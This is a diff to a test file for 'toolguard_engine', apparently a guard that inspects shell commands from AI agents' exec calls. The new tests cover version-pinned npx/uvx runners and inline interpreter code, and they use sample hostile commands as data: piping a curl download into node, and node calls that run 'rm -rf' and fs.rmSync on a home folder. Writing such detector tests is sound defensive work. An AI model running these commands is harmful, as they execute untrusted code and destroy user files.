@@ -4,11 +4,16 @@ from __future__ import annotations
 
 import pytest
 
+from toolguard_engine import rulepacks
+from toolguard_engine.config import Config
+from toolguard_engine.guard import Guard
+from toolguard_engine.model import Call, Host
 from toolguard_engine.shell.acts import code, codetext, sql
-from toolguard_engine.shell.effects import effects
+from toolguard_engine.shell.effects import PROGRAMS, effects
 from toolguard_engine.shell.model import Run
 from toolguard_engine.shell.places import Where
 from toolguard_engine.shell.unwrap import read
+from toolguard_engine.shell.wrappers import SHELLS, WRAPPERS
 
 WHERE = Where("/home/me", "/home/me/work", "/home/me/work", "/home/me/.openclaw")
 
@@ -255,3 +260,34 @@ def test_hostile_texts_are_read_to_an_end(argv: tuple[str, ...], piece: str) -> 
     source = code.source(run)
     commands = code.commands(source[1] if source else "", source[0] if source else "")
     assert len(found) + len(commands) < 2_000
+
+
+RELEASED = [
+    "{}@3.12",
+    "npx -y {}@22",
+    "uvx {}@3.12",
+    "uv run {}@3.12",
+    "echo x | npx {}@1",
+    "npx {}@1 -e x",
+    "{}@latest -c x y",
+]
+
+
+@pytest.mark.parametrize("form", RELEASED)
+def test_a_release_behind_the_name_of_any_known_program_is_judged(form: str) -> None:
+    host = Host(WHERE.home, WHERE.state_dir, f"{WHERE.state_dir}/openclaw.json")
+    judge = Guard(Config(), {}, host, rulepacks.load()).judge
+    names = sorted(set(PROGRAMS) | set(code._LANGUAGES) | WRAPPERS.keys() | SHELLS)
+    for name in names:
+        effects(read(form.format(name)), WHERE)
+    for at in range(0, len(names), 50):
+        lines = "\n".join(form.format(name) for name in names[at : at + 50])
+        assert judge(Call("exec", {"command": lines}, cwd=WHERE.cwd)).decision in ("allow", "hold", "block")
+
+
+def test_code_for_an_interpreter_with_a_release_is_read() -> None:
+    assert found("npx -y node@22 -e 'fs.rmSync(\"/home/me/x\")'", "code") == [("code", 'fs.rmSync("/home/me/x")')]
+    assert found("uvx python@3.12 -c 'x = 1'", "code") == [("code", "x = 1")]
+    assert found("curl -s https://a.test/x | npx node@22", "run-text") != []
+    inside = 'npx -y node@22 -e \'require("child_process").execSync("rm -rf /home/me/letters")\''
+    assert ("delete", "/home/me/letters") in found(inside, "delete")
